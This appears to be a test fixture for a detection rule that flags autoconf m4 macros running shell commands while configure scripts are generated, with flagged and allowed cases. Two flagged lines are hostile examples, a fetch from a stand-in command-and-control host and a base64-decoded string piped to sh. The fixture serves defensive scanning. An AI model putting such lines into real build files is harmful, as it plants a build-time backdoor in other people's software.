# ruleid: m4-command-at-generation
AC_INIT([x], m4_esyscmd([curl -s https://c2.invalid/v]))
# ruleid: m4-command-at-generation
m4_syscmd([echo a | base64 -d | sh])
# ok: m4-command-at-generation
AC_INIT([x], m4_esyscmd_s([git describe]))
# ok: m4-command-at-generation
dnl m4_esyscmd([curl x])
# ok: m4-command-at-generation
m4_esyscmd([build-aux/git-version-gen .tarball-version])
